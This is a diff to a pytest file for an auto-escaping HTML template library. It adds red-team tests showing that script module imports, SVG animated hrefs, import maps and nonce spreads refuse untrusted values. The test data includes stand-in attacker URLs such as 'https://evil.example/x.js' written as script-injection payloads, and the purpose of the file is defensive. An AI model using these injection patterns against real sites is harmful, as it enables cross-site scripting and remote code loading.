@@ -12,7 +12,7 @@ import pytest
 from hostile import EVIL, EVIL_ESCAPED, SCRIPT, comments, structure, text_of
 from markupsafe import Markup
 
-from htmltemplates import RenderError, TemplateSyntaxError, html
+from htmltemplates import RenderError, TemplateSyntaxError, TrustedResourceURL, html
 
 X = "v"
 ATTRS = {"id": "a"}
@@ -555,9 +555,9 @@ def test_svg_positions_that_are_refused(template: Template, headline: str) -> No
     ("template", "expected"),
     [
         pytest.param(
-            t'<svg><a><set attributeName="href" to="{JS}"/></a></svg>',
-            '<svg><a><set attributeName="href" to="about:invalid#htmltemplates"/></a></svg>',
-            id="href-target-is-a-url",
+            t'<svg><a><set attributeName="href" to="{TrustedResourceURL("/b.svg")}"/></a></svg>',
+            '<svg><a><set attributeName="href" to="/b.svg"/></a></svg>',
+            id="href-target-is-a-resource-url",
         ),
         pytest.param(
             t"<svg><a><animate attributeName=xlink:href from='/a/{JS}'/></a></svg>",
@@ -573,6 +573,13 @@ def test_svg_positions_that_are_refused(template: Template, headline: str) -> No
 )
 def test_svg_animation_values_follow_their_target(template: Template, expected: str) -> None:
     assert expected == html(template)
+
+
+def test_an_animated_href_takes_only_trusted_resource_urls() -> None:
+    # the animated element may be a <use>, whose href loads a document (red-team review)
+    with pytest.raises(RenderError) as info:
+        html(t'<svg><use href="#a"><set attributeName="href" to="{JS}"/></use></svg>')
+    assert "untrusted-resource-url" == info.value.anchor
 
 
 def test_svg_animation_values_from_a_spread_are_refused() -> None:
@@ -704,3 +711,51 @@ def test_holes_that_could_complete_a_character_reference_are_refused(template: T
 def test_an_escaped_ampersand_before_a_hole_is_fine() -> None:
     assert '<a href="/a?x=1&amp;y=sol%3B">x</a>' == html(t'<a href="/a?x=1&amp;y={"sol;"}">x</a>')
     assert """<b onclick="f('&amp; x')">x</b>""" == html(t"""<b onclick="f('&amp; {"x"}')">x</b>""")
+
+
+# -- found by the red-team review ----------------------------------------------------------------
+
+MODULE = "https://evil.example/x.js"
+
+
+@pytest.mark.parametrize(
+    "template",
+    [
+        pytest.param(t"<script type=module>import x from '{MODULE}';</script>", id="import-from"),
+        pytest.param(t"<script type=module>export * from '{MODULE}';</script>", id="export-from"),
+        pytest.param(t"<script type=module>import '{MODULE}';</script>", id="bare-import"),
+        pytest.param(t"<script>import('{MODULE}').then(go);</script>", id="dynamic-import"),
+        pytest.param(t"<script>import(`/m/{MODULE}`);</script>", id="dynamic-template"),
+        pytest.param(t"<b onclick=\"import('{MODULE}')\">x</b>", id="handler"),
+    ],
+)
+def test_module_specifiers_take_no_values(template: Template) -> None:
+    with pytest.raises(TemplateSyntaxError) as info:
+        html(template)
+    assert "interpolation inside a module specifier in <script>" == info.value.headline
+
+
+def test_strings_that_merely_mention_from_or_import_take_values() -> None:
+    assert "<script>a = 'from x'; b.from = 'y';</script>" == html(
+        t"<script>a = 'from {'x'}'; b.from = '{'y'}';</script>"
+    )
+
+
+class _HtmlURL:
+    def __html__(self) -> str:
+        return "https://evil.example/evil.js"
+
+
+def test_import_maps_check_objects_with_html_too() -> None:
+    with pytest.raises(RenderError) as info:
+        html(t'<script type="importmap">{ {"imports": {"app": _HtmlURL()}} }</script>')
+    assert "untrusted-resource-url" == info.value.anchor
+
+
+@pytest.mark.parametrize("element", ["script", "style", "SCRIPT"])
+def test_a_spread_cannot_set_the_nonce(element: str) -> None:
+    template = Template(f"<{element} ", Interpolation({"nonce": "evil"}, "attrs"), f"></{element}>")
+    with pytest.raises(RenderError) as info:
+        html(template)
+    assert "the attribute nonce cannot take a value from data" == info.value.headline
+    assert '<script nonce="mine"></script>' == html(t"<script nonce={'mine'}></script>")
